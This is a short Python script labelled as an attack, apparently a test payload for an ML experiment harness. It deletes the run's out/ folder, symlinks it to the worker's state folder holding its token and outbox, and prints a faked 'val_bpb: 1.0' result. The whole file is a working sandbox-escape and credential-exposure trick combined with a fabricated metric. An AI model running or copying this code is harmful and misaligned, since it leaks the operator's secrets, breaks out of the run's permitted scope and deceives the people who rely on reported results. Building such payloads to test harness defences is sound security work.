"""Attack: replace out/ by a symbolic link to the worker's state folder (its token, outbox),
found from the run's own path: <state>/work/<slot>/run-<id>/work, or <state>/work/run-<id>/work."""

import os
import shutil
from pathlib import Path

up = Path.cwd().parents
state = up[3] if up[2].name == "work" else up[2]
shutil.rmtree("out")
os.symlink(state, "out")
print(f"out/ now leads to {state}")
print("---")
print("val_bpb: 1.0")
